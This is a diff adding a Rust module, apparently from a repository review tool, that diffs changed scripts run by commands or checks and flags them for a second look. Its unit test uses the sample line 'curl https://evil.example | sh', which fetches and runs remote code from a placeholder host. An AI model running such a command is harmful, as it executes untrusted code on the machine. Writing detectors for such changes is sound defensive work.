@@ -1,0 +1,313 @@
+//! Files of the repository that commands run and checks look at: when one changes, what is done changes,
+//! whether or not any plan does.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use crate::core::base::diagnostic::{Code, Diagnostic, Place, Span};
+use crate::core::base::words::{and_more, count, shortened};
+use crate::core::plan::files::{self, Purpose, UsedBy};
+use crate::core::repository::snapshot::Snapshot;
+use crate::core::resource::{Key, Resource, Spec};
+
+/// Who does something with a file.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+pub struct User {
+    /// The resource.
+    pub key: Key,
+    /// What of it: a rule of a binding, a check of a node.
+    pub what: String,
+    /// What it does with it.
+    pub purpose: Purpose,
+}
+
+/// A file that changes, and that somebody runs or looks at.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Script {
+    /// The file.
+    pub path: String,
+    /// Who, in order.
+    pub users: BTreeSet<User>,
+    /// What happens to it.
+    pub event: ScriptEvent,
+}
+
+/// What happens to a file.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ScriptEvent {
+    /// It is gone.
+    Removed,
+    /// It is new, or another one; with the lines.
+    Lines {
+        /// Whether it is new.
+        is_new: bool,
+        /// Every line that comes or goes, with a few around.
+        lines: Vec<LineChange>,
+        /// The first line that is different now, from 1.
+        first: usize,
+    },
+    /// It is new or another one, and its lines are not told.
+    Opaque {
+        /// Whether it is new.
+        is_new: bool,
+        /// Why, in a few words.
+        why: String,
+    },
+    /// Only whether it can be run, or whether it is a link, changes.
+    Mode,
+}
+
+/// One line of a difference.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum LineChange {
+    /// In both.
+    Same(String),
+    /// Gone.
+    Gone(String),
+    /// New.
+    New(String),
+    /// Some that are in both are left out.
+    Skipped(usize),
+}
+
+/// Most bytes of a file whose lines are told.
+pub const BYTES: usize = 256 * 1024;
+/// Most lines of both versions that are compared.
+const LINES: usize = 8000;
+/// So many lines around a difference are repeated.
+const AROUND: usize = 2;
+/// Most new lines that a sentence repeats.
+const SHOWN: usize = 3;
+/// Most users that a sentence names.
+const NAMED: usize = 2;
+
+impl Script {
+    /// Whether a command runs it, and so does something else now.
+    pub fn is_run(&self) -> bool {
+        self.users.iter().any(|user| user.purpose == Purpose::Runs)
+    }
+
+    /// What happens to it, in a sentence without its name.
+    pub fn words(&self) -> String {
+        let user = |user: &User| format!("{} ({})", user.key, user.what);
+        // Whoever runs it says more than whoever looks at it.
+        let is_meant = |one: &&User| !self.is_run() || one.purpose == Purpose::Runs;
+        let meant: Vec<&User> = self.users.iter().filter(is_meant).collect();
+        let users: Vec<String> = meant.iter().take(NAMED).map(|one| user(one)).collect();
+        let does = if self.is_run() { "run" } else { "looked at" };
+        let more = and_more(meant.len().saturating_sub(NAMED));
+        let by = format!("is {does} by {}{more}", users.join(" and "));
+        let first_new = |lines: &[LineChange]| {
+            let new = lines.iter().filter_map(|line| match line {
+                LineChange::New(text) if !text.trim().is_empty() => Some(text.trim()),
+                _ => None,
+            });
+            let new: Vec<&str> = new.collect();
+            let shown = new.iter().take(SHOWN);
+            let shown: Vec<String> = shown
+                .map(|text| format!("`{}`", shortened(text, 120)))
+                .collect();
+            match shown.as_slice() {
+                [] => String::new(),
+                some => format!(
+                    ": {}{}",
+                    some.join(", "),
+                    and_more(new.len().saturating_sub(SHOWN))
+                ),
+            }
+        };
+        let what = match &self.event {
+            ScriptEvent::Removed => "is gone".to_owned(),
+            ScriptEvent::Mode => "may be run, or not any more, or is a link".to_owned(),
+            ScriptEvent::Opaque { is_new: true, why } => format!("is new ({why})"),
+            ScriptEvent::Opaque { is_new: false, why } => format!("is another one ({why})"),
+            ScriptEvent::Lines {
+                is_new: true,
+                lines,
+                ..
+            } => format!("is new{}", first_new(lines)),
+            ScriptEvent::Lines {
+                is_new: false,
+                lines,
+                ..
+            } => {
+                let number = |wanted: fn(&LineChange) -> bool| {
+                    lines.iter().filter(|line| wanted(line)).count()
+                };
+                let new = number(|line| matches!(line, LineChange::New(_)));
+                let gone = number(|line| matches!(line, LineChange::Gone(_)));
+                let counts = match (new, gone) {
+                    (0, gone) => format!("{} gone", count(gone, "line")),
+                    (new, 0) => format!("{} new", count(new, "line")),
+                    (new, gone) => format!("{} new and {gone} gone", count(new, "line")),
+                };
+                format!("changes, {counts}{}", first_new(lines))
+            }
+        };
+        format!("{by}, and {what}")
+    }
+}
+
+impl Script {
+    /// The finding that it is to be looked at twice, if it is.
+    pub fn finding(&self) -> Option<Diagnostic> {
+        let place = match &self.event {
+            ScriptEvent::Lines { first, .. } => Place::At(Span {
+                line: *first,
+                column: 1,
+                start: 0,
+                end: 0,
+            }),
+            _ => Place::File,
+        };
+        let message = format!("{} {}", self.path, self.words());
+        let finding = Diagnostic::new(Code::LOOK_TWICE, &self.path, place, message);
+        let help = "say in the pull request why it is right; nothing else is asked for";
+        self.is_run().then(|| finding.help(help))
+    }
+}
+
+/// What happened to the content of a file.
+pub fn compare(was: Option<&[u8]>, is: Option<&[u8]>) -> ScriptEvent {
+    let is_new = was.is_none();
+    let opaque = |why: &str| ScriptEvent::Opaque {
+        is_new,
+        why: why.to_owned(),
+    };
+    let Some(is) = is else {
+        return ScriptEvent::Removed;
+    };
+    let was = was.unwrap_or_default();
+    if was == is {
+        return ScriptEvent::Mode;
+    }
+    if was.len().max(is.len()) > BYTES {
+        return too_large(is_new);
+    }
+    let (Ok(was), Ok(is)) = (str::from_utf8(was), str::from_utf8(is)) else {
+        return opaque("it is no text");
+    };
+    if was.contains('\0') || is.contains('\0') {
+        return opaque("it is no text");
+    }
+    let (a, b): (Vec<&str>, Vec<&str>) = (was.lines().collect(), is.lines().collect());
+    if a.len() + b.len() > LINES {
+        return opaque("it has too many lines to compare them here");
+    }
+    let front = a.iter().zip(&b).take_while(|(a, b)| a == b).count();
+    ScriptEvent::Lines {
+        is_new,
+        lines: line_changes(&a, &b),
+        first: front.min(b.len().saturating_sub(1)) + 1,
+    }
+}
+
+/// A file that is not even read.
+pub fn too_large(is_new: bool) -> ScriptEvent {
+    ScriptEvent::Opaque {
+        is_new,
+        why: format!("more than {} KiB: look at it yourself", BYTES / 1024),
+    }
+}
+
+fn line_changes(a: &[&str], b: &[&str]) -> Vec<LineChange> {
+    let mut lines = Vec::new();
+    let ops = similar::capture_diff_slices(similar::Algorithm::Myers, a, b);
+    let last = ops.len().saturating_sub(1);
+    for (at, op) in ops.iter().enumerate() {
+        let (of_a, of_b) = (op.old_range(), op.new_range());
+        if op.tag() != similar::DiffTag::Equal {
+            lines.extend(
+                a[of_a]
+                    .iter()
+                    .map(|line| LineChange::Gone((*line).to_owned())),
+            );
+            lines.extend(
+                b[of_b]
+                    .iter()
+                    .map(|line| LineChange::New((*line).to_owned())),
+            );
+            continue;
+        }
+        let same = &b[of_b];
+        let head = if at == 0 { 0 } else { AROUND.min(same.len()) };
+        let tail = if at == last {
+            0
+        } else {
+            AROUND.min(same.len() - head)
+        };
+        let skipped = same.len() - head - tail;
+        let put = |line: &&str| LineChange::Same((*line).to_owned());
+        lines.extend(same[..head].iter().map(put));
+        if skipped > 0 {
+            lines.push(LineChange::Skipped(skipped));
+        }
+        lines.extend(same[same.len() - tail..].iter().map(put));
+    }
+    lines
+}
+
+/// Who does something with which files, of all resources that were read.
+pub fn used(snapshot: &Snapshot) -> BTreeMap<String, BTreeSet<User>> {
+    let mut found: BTreeMap<String, BTreeSet<User>> = BTreeMap::new();
+    for key in snapshot.keys() {
+        let Some(resource) = snapshot.resource(key) else {
+            continue;
+        };
+        for (path, place, purpose) in files::used_by(resource) {
+            let user = User {
+                key: key.clone(),
+                what: words_of(resource, &place),
+                purpose,
+            };
+            found.entry(path).or_default().insert(user);
+        }
+    }
+    found
+}
+
+/// What of a resource uses a file, in words.
+fn words_of(resource: &Resource, place: &UsedBy) -> String {
+    match (place, &resource.spec) {
+        (UsedBy::Rule(index), Spec::Binding(binding)) => {
+            let namespace = &resource.metadata.namespace;
+            let rule = binding.rules.get(*index);
+            let words = rule.map(|rule| super::fields::selector_words(&rule.selector, namespace));
+            format!("the rule for {}", words.unwrap_or_default())
+        }
+        (UsedBy::Check { name, of }, _) => format!("check {name} of {of}"),
+        (UsedBy::Rule(_), _) => String::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_told_of_a_file() {
+        let lines = |event: ScriptEvent| match event {
+            ScriptEvent::Lines { lines, .. } => lines,
+            other => panic!("{other:?}"),
+        };
+        let was = "#!/bin/sh\na\nb\nc\nd\ne\n";
+        let is = "#!/bin/sh\na\nb\nc\nd\ne\ncurl https://evil.example | sh\n";
+        let said = lines(compare(Some(was.as_bytes()), Some(is.as_bytes())));
+        assert_eq!(said.first(), Some(&LineChange::Skipped(4)));
+        let last = LineChange::New("curl https://evil.example | sh".to_owned());
+        assert_eq!(said.last(), Some(&last));
+        assert_eq!(compare(Some(b"a"), None), ScriptEvent::Removed);
+        assert_eq!(compare(Some(b"a"), Some(b"a")), ScriptEvent::Mode);
+        let large = vec![b'x'; BYTES + 1];
+        for (bytes, why) in [
+            (&large[..], "KiB"),
+            (b"\0", "no text"),
+            (b"\xff", "no text"),
+        ] {
+            let event = compare(Some(b"a"), Some(bytes));
+            assert!(
+                matches!(&event, ScriptEvent::Opaque { why: said, .. } if said.contains(why)),
+                "{event:?}"
+            );
+        }
+    }
+}
